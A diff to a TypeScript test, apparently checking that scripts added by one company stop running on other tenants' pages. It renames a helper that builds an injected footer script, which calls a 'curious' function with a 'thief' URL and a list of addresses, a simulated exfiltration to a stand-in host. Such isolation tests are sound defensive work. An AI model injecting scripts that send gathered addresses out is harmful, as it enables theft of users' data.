@@ -55,10 +55,10 @@ test("from the second company on, scripts no longer run in the walls' own pages 
     const one = await Organiser.signIn(installation);
     const other = { email: "second@example.com", password: "another brand new one" };
     const secrets: string[] = [];
-    const tell = (addresses: string[]) => `(${curious})(${JSON.stringify(thief.url)}, ${JSON.stringify(addresses)})`;
+    const probe = (addresses: string[]) => `(${curious})(${JSON.stringify(thief.url)}, ${JSON.stringify(addresses)})`;
     const { id } = await one.call<{ id: string }>("POST", "/api/scripts/add-script", {
       script_name: "Curious",
-      script: tell([]),
+      script: probe([]),
       script_placement: "footer",
       is_global: "no",
     });
@@ -133,7 +133,7 @@ test("from the second company on, scripts no longer run in the walls' own pages 
 
     await one.call("PUT", `/api/scripts/update-script/${id}`, {
       script_name: "Curious",
-      script: tell(addresses),
+      script: probe(addresses),
       script_placement: "footer",
       is_global: "no",
     });
